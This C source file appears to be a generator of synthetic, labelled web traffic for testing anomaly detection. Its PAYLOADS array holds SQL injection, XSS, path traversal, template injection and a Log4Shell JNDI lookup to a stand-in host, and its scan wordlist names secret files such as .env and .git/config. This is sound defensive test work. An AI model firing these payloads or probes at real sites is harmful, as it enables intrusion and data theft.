/*  dpi-mitmgen — a labelled stream of HTTP traffic, for the anomaly tests.

    dpi-mitmgen [--seed N] [--duration S] OUT.jsonl LABELS.tsv

    OUT ("-": stdout) receives, in time order, one JSON object a line in
    the shape `dpi-dualctl tail mitm.request mitm.response` prints (pbjson
    of HttpRequest / HttpResponse with "topic", no "header"); request_id
    pairs a request with its response. LABELS receives "client_ip<TAB>class"
    for every client, class one of benign, scanner, brute-force,
    slow-injection. The same seed and duration give the same bytes.

    The site: www.example.shop, 30 pages, 16 assets, a login, a search, a
    product list, an API. Clients (addresses drawn at random in 10.0.0.0/8,
    so the address says nothing about the class):

    benign       150 browsers: sessions of page views (a page + the assets
                 not cached yet), think times of ~25 s, pauses of minutes
                 between sessions; 2% stale links (404); some searches; 1
                 in 8 sessions logs in (1 in 6 of those mistypes once: 401).
                 Heavy ones on top: 4 API clients (Bearer token, 0.5-2 req/s,
                 30% writes, a few 404/500), 4 users whose page has broken
                 images (404 on every view), 3 carrier-grade NATs (6-12
                 browsers behind one address, each its own user agent), 2
                 crawlers (every page and hundreds of product pages, a few
                 dead links) and 2 uptime monitors (GET /health every 10 s).
    scanner      12: from a random start for 1-5 min, 0.3-8 req/s through a
                 wordlist with extensions, HEAD or GET; mostly 404, some
                 403/301/200; 5 of them with a browser's user agent.
    brute-force  12: for 2-10 min, POST to /login, /api/v1/auth or
                 /wp-login.php at 0.1-3 req/s; 401 (403 once locked out),
                 and the wp-login ones get 200 (WordPress answers a failed
                 login with the form again); some change agent each time.
    slow-injection 10: a benign browser that also sends, every 20-90 s, a
                 request whose query carries SQL, script or path-traversal
                 text (plain or percent-encoded); 200, some 500/400.       */
#include <getopt.h>
#include <math.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "pbjson.h"
#include "topics.h"

#define BASE_NS (1700000000ull * 1000000000ull)
#define SEC 1000000000ull

typedef enum { BENIGN, SCANNER, BRUTE, INJECTION } class_t;
static const char *const CLASS_NAMES[] = { "benign", "scanner", "brute-force", "slow-injection" };

typedef struct {
    char ip[16];
    class_t class;
    uint16_t port;
} client_t;

typedef struct {
    uint64_t ts_ns, latency_ns;
    uint32_t client, status, body;
    const char *method, *agent;
    bool bearer;
    char path[96];
    char query[160];
} request_t;

typedef struct {
    uint64_t ts_ns;
    uint32_t request;
    bool response;
} event_t;

typedef struct {
    uint64_t rng;
    uint64_t end_ns;
    client_t *clients;
    size_t n_clients, cap_clients;
    request_t *requests;
    size_t n_requests, cap_requests;
} gen_t;

/* ---- randomness --------------------------------------------------------- */

static uint64_t
next (gen_t *g)
{
    g->rng ^= g->rng >> 12;
    g->rng ^= g->rng << 25;
    g->rng ^= g->rng >> 27;
    return g->rng * 2685821657736338717ull;
}

static double
uniform (gen_t *g)
{
    return (next (g) >> 11) * (1.0 / 9007199254740992.0);
}

static uint32_t
below (gen_t *g, uint32_t n)
{
    return (uint32_t) (uniform (g) * n);
}

static bool
chance (gen_t *g, double p)
{
    return uniform (g) < p;
}

/*  An exponential delay of mean MEAN seconds, in ns.                       */
static uint64_t
expo (gen_t *g, double mean)
{
    double u = uniform (g);
    return (uint64_t) (-mean * log (1.0 - u) * SEC);
}

#define PICK(g, array) (array[below (g, sizeof array / sizeof array[0])])

/* ---- the site ----------------------------------------------------------- */

static const char *const BROWSERS[] = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.6045.163 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:120.0) Gecko/20100101 Firefox/120.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36 Edg/119.0.2151.72",
    "Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.6 Mobile/15E148 Safari/604.1",
};
static const char *const PAGES[] = {
    "/", "/", "/", "/about", "/contact", "/cart", "/checkout", "/faq", "/shipping", "/returns",
    "/blog", "/blog/spring-sale", "/blog/new-arrivals", "/blog/care-guide", "/category/shoes",
    "/category/bags", "/category/coats", "/category/sale", "/products/1042", "/products/1043",
    "/products/1107", "/products/1200", "/products/1311", "/products/1312", "/products/1404",
    "/account", "/account/orders", "/privacy", "/terms", "/stores",
};
static const char *const ASSETS[] = {
    "/static/css/main.4f2a.css", "/static/js/app.91c3.js", "/static/js/vendor.1d7e.js",
    "/static/img/logo.svg", "/static/img/hero.webp", "/static/img/banner-sale.webp",
    "/static/fonts/inter.woff2", "/favicon.ico", "/static/img/p1042.webp", "/static/img/p1043.webp",
    "/static/img/p1107.webp", "/static/img/p1200.webp", "/static/css/print.css",
    "/static/js/analytics.js", "/manifest.json", "/static/img/icons.svg",
};
static const char *const WORDS[] = {
    "boots", "red dress", "wool coat", "sneakers size 42", "leather bag", "gift card", "sale",
    "scarf", "rain jacket", "kids shoes", "belt", "sandals",
};
static const char *const SCAN_WORDS[] = {
    "admin", "administrator", "wp-admin", "wp-content", "phpmyadmin", "pma", "backup", "backups",
    "db", "database", "dump", "sql", "config", "configuration", "conf", "old", "new", "test",
    "tmp", "temp", "dev", "staging", "api", "api/v2", "console", "manager", "server-status",
    "cgi-bin", "shell", "upload", "uploads", "files", "private", "secret", ".git/config", ".env",
    ".htaccess", ".svn/entries", ".DS_Store", "web.config", "phpinfo", "info", "install",
    "setup", "debug", "actuator", "actuator/env", "jenkins", "solr", "vendor", "storage",
    "logs", "log", "status", "portal", "login", "robots.txt", "sitemap.xml", "user", "users",
};
static const char *const SCAN_EXT[] = { "", "", ".php", ".bak", ".old", ".zip", ".tar.gz", "/",
                                        ".txt", ".asp" };
static const char *const TOOLS[] = {
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000123)", "gobuster/3.6", "curl/8.4.0",
    "python-requests/2.31.0", "Fuzz Faster U Fool v2.1.0-dev", "sqlmap/1.7.11#stable",
};
static const char *const PAYLOADS[] = {
    "id=1%27%20OR%20%271%27%3D%271", "id=1' OR '1'='1", "q=<script>alert(document.cookie)</script>",
    "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "file=../../../../etc/passwd",
    "file=..%2F..%2F..%2F..%2Fetc%2Fpasswd", "q=1 UNION SELECT username,password FROM users--",
    "sort=price;DROP TABLE orders--", "q=\"><img src=x onerror=alert(1)>",
    "page=1 AND SLEEP(5)", "lang=${jndi:ldap://203.0.113.9/a}", "redirect=http://203.0.113.9/",
    "id=1)) OR 1=1#", "q={{7*7}}",
};

/* ---- clients and requests ----------------------------------------------- */

static uint32_t
client_new (gen_t *g, class_t class)
{
    if (g->n_clients == g->cap_clients) {
        g->cap_clients = g->cap_clients ? 2 * g->cap_clients : 64;
        g->clients = realloc (g->clients, g->cap_clients * sizeof *g->clients);
        if (!g->clients)
            exit (3);
    }
    client_t *c = &g->clients[g->n_clients];
    bool unique;
    do {                                /* a random address, never twice */
        snprintf (c->ip, sizeof c->ip, "10.%u.%u.%u", below (g, 256), below (g, 256),
                  1 + below (g, 254));
        unique = true;
        for (size_t i = 0; i < g->n_clients && unique; i++)
            unique = strcmp (g->clients[i].ip, c->ip) != 0;
    } while (!unique);
    c->class = class;
    c->port = (uint16_t) (32768 + below (g, 28000));
    return (uint32_t) g->n_clients++;
}

/*  A request of CLIENT at T (ignored past the end) answered STATUS.         */
static request_t *
emit (gen_t *g, uint32_t client, uint64_t t, const char *method, const char *path,
      const char *agent, uint32_t status)
{
    if (t >= g->end_ns)
        return NULL;
    if (g->n_requests == g->cap_requests) {
        g->cap_requests = g->cap_requests ? 2 * g->cap_requests : 4096;
        g->requests = realloc (g->requests, g->cap_requests * sizeof *g->requests);
        if (!g->requests)
            exit (3);
    }
    request_t *r = &g->requests[g->n_requests++];
    memset (r, 0, sizeof *r);
    r->ts_ns = t;
    r->latency_ns = (uint64_t) ((5 + uniform (g) * 120) * 1e6);
    r->client = client;
    r->method = method;
    r->agent = agent;
    r->status = status;
    r->body = status == 404 ? 512 : 200 + below (g, 40000);
    snprintf (r->path, sizeof r->path, "%s", path);
    return r;
}

/*  R's query: TEXT with its spaces as SPACE ("+" or "%20").                */
static void
set_query (request_t *r, const char *text, const char *space)
{
    size_t n = 0;
    for (const char *p = text; *p && n + 4 < sizeof r->query; p++)
        if (*p == ' ')
            n += (size_t) snprintf (r->query + n, sizeof r->query - n, "%s", space);
        else
            r->query[n++] = *p;
    r->query[n] = 0;
}

/*  A page of the site: 2% of links are stale (404).                        */
static uint64_t
view_page (gen_t *g, uint32_t client, uint64_t t, const char *agent, bool *cached, int broken)
{
    const char *page = PICK (g, PAGES);
    bool stale = chance (g, 0.02);
    request_t *r = emit (g, client, t, "GET", stale ? "/products/0999" : page, agent,
                         stale ? 404 : 200);
    if (r && !stale && strcmp (page, "/category/sale") == 0 && chance (g, 0.5))
        snprintf (r->query, sizeof r->query, "page=%u&sort=price", 1 + below (g, 4));
    t += (uint64_t) (0.15 * SEC);
    for (size_t i = 0; i < sizeof ASSETS / sizeof ASSETS[0]; i++)
        if (!cached[i] && chance (g, 0.4)) {
            cached[i] = true;
            emit (g, client, t + below (g, 400) * 1000000ull, "GET", ASSETS[i], agent, 200);
        }
    for (int i = 0; i < broken; i++) {             /* images this page lost */
        char path[64];
        snprintf (path, sizeof path, "/static/img/old/banner-%u.jpg", below (g, 6));
        emit (g, client, t + below (g, 400) * 1000000ull, "GET", path, agent, 404);
    }
    return t;
}

/*  GET /login, then POST /login (a mistyped password first, 1 in 6).        */
static void
login (gen_t *g, uint32_t client, uint64_t t, const char *agent)
{
    emit (g, client, t, "GET", "/login", agent, 200);
    t += 4 * SEC + expo (g, 6);
    if (chance (g, 1.0 / 6)) {
        emit (g, client, t, "POST", "/login", agent, 401);
        t += 5 * SEC + expo (g, 5);
    }
    emit (g, client, t, "POST", "/login", agent, 302);
}

/*  One browsing session from T: page views ~25 s apart. Returns its end.   */
static uint64_t
session (gen_t *g, uint32_t client, uint64_t t, const char *agent, int broken)
{
    bool cached[sizeof ASSETS / sizeof ASSETS[0]] = { false };
    int views = 1 + (int) below (g, 14);
    if (chance (g, 1.0 / 8))
        login (g, client, t + expo (g, 20), agent);
    for (int v = 0; v < views && t < g->end_ns; v++) {
        if (chance (g, 0.12)) {
            request_t *r = emit (g, client, t, "GET", "/search", agent, 200);
            char text[64];
            snprintf (text, sizeof text, "q=%s", PICK (g, WORDS));
            if (r)
                set_query (r, text, "+");
        } else
            view_page (g, client, t, agent, cached, broken ? 3 + (int) below (g, 4) : 0);
        t += 2 * SEC + expo (g, 25);
    }
    return t;
}

/*  A browser (or NAT) from a random start: sessions with pauses.           */
static void
browse (gen_t *g, uint32_t client, const char *agent, int broken)
{
    uint64_t t = BASE_NS + expo (g, 120);
    while (t < g->end_ns)
        t = session (g, client, t, agent, broken) + expo (g, 240);
}

/* ---- heavy benign clients ----------------------------------------------- */

static void
api_client (gen_t *g)
{
    static const char *const AGENTS[] = { "python-requests/2.31.0", "okhttp/4.12.0",
                                          "Go-http-client/2.0", "axios/1.6.2" };
    uint32_t c = client_new (g, BENIGN);
    const char *agent = PICK (g, AGENTS);
    double mean = 0.5 + uniform (g) * 1.5;          /* s between requests */
    for (uint64_t t = BASE_NS + expo (g, 30); t < g->end_ns; t += expo (g, mean)) {
        double u = uniform (g);
        const char *method = u < 0.7 ? "GET" : u < 0.9 ? "POST" : u < 0.97 ? "PUT" : "DELETE";
        char path[64];
        if (chance (g, 0.5))
            snprintf (path, sizeof path, "/api/v1/items/%u", 1000 + below (g, 400));
        else
            snprintf (path, sizeof path, "/api/v1/%s", chance (g, 0.6) ? "items" : "orders");
        double fail = uniform (g);
        uint32_t status = fail < 0.02 ? 404 : fail < 0.03 ? 500
                          : strcmp (method, "POST") == 0 ? 201 : 200;
        request_t *r = emit (g, c, t, method, path, agent, status);
        if (r) {
            r->bearer = true;
            if (strcmp (method, "GET") == 0 && chance (g, 0.5))
                snprintf (r->query, sizeof r->query, "since=%llu&limit=50",
                          (unsigned long long) (t / SEC - 300));
        }
    }
}

static void
crawler (gen_t *g)
{
    static const char *const AGENTS[] = {
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)" };
    uint32_t c = client_new (g, BENIGN);
    const char *agent = PICK (g, AGENTS);
    uint64_t t = BASE_NS + expo (g, 60);
    emit (g, c, t, "GET", "/robots.txt", agent, 200);
    for (uint32_t n = 0; t < g->end_ns; n++) {
        t += 2 * SEC + expo (g, 3);
        char path[64];
        if (n % 4 == 0)
            snprintf (path, sizeof path, "%s", PICK (g, PAGES));
        else
            snprintf (path, sizeof path, "/products/%u", 1000 + below (g, 900));
        emit (g, c, t, "GET", path, agent, chance (g, 0.06) ? 404 : 200);
    }
}

static void
monitor (gen_t *g)
{
    uint32_t c = client_new (g, BENIGN);
    for (uint64_t t = BASE_NS + below (g, 10) * SEC; t < g->end_ns; t += 10 * SEC)
        emit (g, c, t, "GET", "/health", "Mozilla/5.0+(compatible; UptimeRobot/2.0)", 200);
}

static void
benign (gen_t *g)
{
    for (int i = 0; i < 150; i++)
        browse (g, client_new (g, BENIGN), PICK (g, BROWSERS), 0);
    for (int i = 0; i < 4; i++)
        api_client (g);
    for (int i = 0; i < 4; i++)
        browse (g, client_new (g, BENIGN), PICK (g, BROWSERS), 1);
    for (int i = 0; i < 3; i++) {                   /* carrier-grade NAT */
        uint32_t c = client_new (g, BENIGN);
        int users = 6 + (int) below (g, 7);
        for (int u = 0; u < users; u++)
            browse (g, c, BROWSERS[u % (sizeof BROWSERS / sizeof BROWSERS[0])], 0);
    }
    for (int i = 0; i < 2; i++)
        crawler (g);
    for (int i = 0; i < 2; i++)
        monitor (g);
}

/* ---- attackers ---------------------------------------------------------- */

/*  A random start leaving at least MIN_S seconds, and a length in [MIN_S, MAX_S]. */
static uint64_t
attack_span (gen_t *g, double min_s, double max_s, uint64_t *end)
{
    double total = (double) (g->end_ns - BASE_NS) / SEC;
    double len = min_s + uniform (g) * (max_s - min_s);
    len = len < total ? len : total;
    double start = uniform (g) * (total > len ? total - len : 0);
    *end = BASE_NS + (uint64_t) ((start + len) * SEC);
    return BASE_NS + (uint64_t) (start * SEC);
}

static void
scanner (gen_t *g, int n)
{
    uint32_t c = client_new (g, SCANNER);
    const char *agent = n < 5 ? PICK (g, BROWSERS) : PICK (g, TOOLS);
    const char *method = chance (g, 0.3) ? "HEAD" : "GET";
    double mean = 1.0 / (0.3 + uniform (g) * 7.7);
    uint64_t end, t = attack_span (g, 60, 300, &end);
    for (uint32_t i = 0; t < end; i++, t += expo (g, mean)) {
        const char *word = SCAN_WORDS[i % (sizeof SCAN_WORDS / sizeof SCAN_WORDS[0])];
        const char *ext = SCAN_EXT[(i / (sizeof SCAN_WORDS / sizeof SCAN_WORDS[0]))
                                   % (sizeof SCAN_EXT / sizeof SCAN_EXT[0])];
        char path[96];
        snprintf (path, sizeof path, "/%s%s", word, ext);
        double u = uniform (g);
        uint32_t status = word[0] == '.' ? 403 : u < 0.85 ? 404 : u < 0.92 ? 301 : u < 0.96 ? 403 : 200;
        emit (g, c, t, method, path, agent, status);
    }
}

static void
brute (gen_t *g, int n)
{
    static const char *const TARGETS[] = { "/login", "/login", "/api/v1/auth", "/wp-login.php" };
    uint32_t c = client_new (g, BRUTE);
    const char *target = TARGETS[n % 4];
    bool rotating = n % 3 == 1;
    const char *agent = chance (g, 0.5) ? PICK (g, BROWSERS) : PICK (g, TOOLS);
    double mean = 1.0 / (0.1 + uniform (g) * 2.9);
    uint64_t end, t = attack_span (g, 120, 600, &end);
    if (chance (g, 0.5))
        emit (g, c, t - 3 * SEC, "GET", target, agent, 200);
    for (uint32_t i = 0; t < end; i++, t += expo (g, mean)) {
        if (rotating)
            agent = PICK (g, BROWSERS);
        uint32_t status = strcmp (target, "/wp-login.php") == 0 ? 200 : i > 50 ? 403 : 401;
        emit (g, c, t, "POST", target, agent, status);
    }
}

static void
injector (gen_t *g)
{
    static const char *const TARGETS[] = { "/products", "/search", "/category/sale", "/download" };
    uint32_t c = client_new (g, INJECTION);
    const char *agent = PICK (g, BROWSERS);
    browse (g, c, agent, 0);
    uint64_t end, t = attack_span (g, 120, 900, &end);
    for (; t < end; t += 20 * SEC + expo (g, 50)) {
        double u = uniform (g);
        request_t *r = emit (g, c, t, "GET", PICK (g, TARGETS), agent,
                             u < 0.75 ? 200 : u < 0.9 ? 500 : 400);
        if (r)
            set_query (r, PICK (g, PAYLOADS), "%20");
    }
}

/* ---- output ------------------------------------------------------------- */

static int
by_time (const void *a, const void *b)
{
    const event_t *x = a, *y = b;
    if (x->ts_ns != y->ts_ns)
        return x->ts_ns < y->ts_ns ? -1 : 1;
    if (x->request != y->request)
        return x->request < y->request ? -1 : 1;
    return (int) x->response - (int) y->response;
}

static void
header (Dpidual__V1__HttpHeader *h, Dpidual__V1__HttpHeader **ptr, const char *name,
        const char *value)
{
    dpidual__v1__http_header__init (h);
    h->name = (char *) name;
    h->value = (char *) value;
    *ptr = h;
}

static void
print_request (pbjson_buf_t *line, const gen_t *g, const request_t *r, uint32_t index)
{
    const client_t *c = &g->clients[r->client];
    char id[32], flow[40];
    snprintf (id, sizeof id, "req-%08x", index);
    snprintf (flow, sizeof flow, "f%011x-%08x", index * 2654435761u, index);
    Dpidual__V1__HttpRequest m = DPIDUAL__V1__HTTP_REQUEST__INIT;
    Dpidual__V1__HttpHeader h[5], *ptrs[5];
    size_t n = 0;
    header (&h[n], &ptrs[n], "host", "www.example.shop"), n++;
    header (&h[n], &ptrs[n], "user-agent", r->agent), n++;
    header (&h[n], &ptrs[n], "accept", "*/*"), n++;
    if (r->bearer)
        header (&h[n], &ptrs[n], "authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.e30.x"), n++;
    bool post = strcmp (r->method, "POST") == 0 || strcmp (r->method, "PUT") == 0;
    if (post)
        header (&h[n], &ptrs[n], "content-type", r->bearer ? "application/json"
                                                          : "application/x-www-form-urlencoded"), n++;
    m.flow_id = flow;
    m.request_id = id;
    m.client_ip = (char *) c->ip;
    m.client_port = c->port;
    m.frontend_ip = "192.0.2.80";
    m.frontend_port = 443;
    m.client_from_proxy = true;
    m.ts_ns = r->ts_ns;
    m.method = (char *) r->method;
    m.scheme = "https";
    m.host = "www.example.shop";
    m.path = (char *) r->path;
    m.query = (char *) r->query;
    m.http_version = "HTTP/1.1";
    m.n_headers = n;
    m.headers = ptrs;
    m.body_length = post ? 48 : 0;
    m.user_agent = (char *) r->agent;
    m.tls_version = "TLSv1.3";
    m.tls_cipher = "TLS_AES_128_GCM_SHA256";
    m.tls_sni = "www.example.shop";
    m.tls_alpn = "http/1.1";
    pbjson_append (line, TOPIC_MITM_REQUEST, &m.base);
}

static void
print_response (pbjson_buf_t *line, const gen_t *g, const request_t *r, uint32_t index)
{
    const client_t *c = &g->clients[r->client];
    char id[32], flow[40];
    snprintf (id, sizeof id, "req-%08x", index);
    snprintf (flow, sizeof flow, "f%011x-%08x", index * 2654435761u, index);
    Dpidual__V1__HttpResponse m = DPIDUAL__V1__HTTP_RESPONSE__INIT;
    Dpidual__V1__HttpHeader h[1], *ptrs[1];
    header (&h[0], &ptrs[0], "content-type", r->status == 404 ? "text/html" : "text/html; charset=utf-8");
    m.flow_id = flow;
    m.request_id = id;
    m.client_ip = (char *) c->ip;
    m.client_port = c->port;
    m.ts_ns = r->ts_ns + r->latency_ns;
    m.status = r->status;
    m.n_headers = 1;
    m.headers = ptrs;
    m.body_length = r->body;
    m.header_bytes = 180;
    m.latency_us = r->latency_ns / 1000;
    m.error = "";
    pbjson_append (line, TOPIC_MITM_RESPONSE, &m.base);
}

static int
write_stream (const gen_t *g, FILE *out)
{
    event_t *events = calloc (2 * g->n_requests + 1, sizeof *events);
    if (!events)
        return -1;
    for (size_t i = 0; i < g->n_requests; i++) {
        events[2 * i] = (event_t) { g->requests[i].ts_ns, (uint32_t) i, false };
        events[2 * i + 1] = (event_t) { g->requests[i].ts_ns + g->requests[i].latency_ns,
                                        (uint32_t) i, true };
    }
    qsort (events, 2 * g->n_requests, sizeof *events, by_time);
    pbjson_buf_t line = { 0 };
    for (size_t i = 0; i < 2 * g->n_requests; i++) {
        pbjson_buf_reset (&line);
        const request_t *r = &g->requests[events[i].request];
        if (events[i].response)
            print_response (&line, g, r, events[i].request);
        else
            print_request (&line, g, r, events[i].request);
        if (line.data)
            fprintf (out, "%s\n", line.data);
    }
    pbjson_buf_free (&line);
    free (events);
    return ferror (out) ? -1 : 0;
}

static int
write_labels (const gen_t *g, const char *path)
{
    FILE *f = fopen (path, "w");
    if (!f)
        return -1;
    for (size_t i = 0; i < g->n_clients; i++)
        fprintf (f, "%s\t%s\n", g->clients[i].ip, CLASS_NAMES[g->clients[i].class]);
    return fclose (f);
}

int
main (int argc, char **argv)
{
    static const struct option LONG[] = { { "seed", required_argument, NULL, 's' },
                                          { "duration", required_argument, NULL, 'd' },
                                          { NULL, 0, NULL, 0 } };
    unsigned long long seed = 1, duration = 600;
    int opt;
    while ((opt = getopt_long (argc, argv, "s:d:", LONG, NULL)) != -1)
        if (opt == 's')
            seed = strtoull (optarg, NULL, 10);
        else if (opt == 'd')
            duration = strtoull (optarg, NULL, 10);
        else
            optind = argc + 1;
    if (optind + 2 != argc || duration < 60 || duration > 86400) {
        fprintf (stderr, "usage: dpi-mitmgen [--seed N] [--duration S (60..86400)] OUT.jsonl LABELS.tsv\n");
        return 2;
    }
    gen_t g = { .rng = 0x9e3779b97f4a7c15ull ^ (seed * 0xbf58476d1ce4e5b9ull) };
    g.rng = g.rng ? g.rng : 1;
    g.end_ns = BASE_NS + duration * SEC;
    benign (&g);
    for (int i = 0; i < 12; i++)
        scanner (&g, i);
    for (int i = 0; i < 12; i++)
        brute (&g, i);
    for (int i = 0; i < 10; i++)
        injector (&g);
    bool to_stdout = strcmp (argv[optind], "-") == 0;
    FILE *out = to_stdout ? stdout : fopen (argv[optind], "w");
    int rc = out && write_stream (&g, out) == 0 ? 0 : 3;
    if (out && !to_stdout && fclose (out) != 0)
        rc = 3;
    if (write_labels (&g, argv[optind + 1]) != 0)
        rc = 3;
    if (rc)
        fprintf (stderr, "dpi-mitmgen: cannot write the output\n");
    free (g.clients);
    free (g.requests);
    return rc;
}
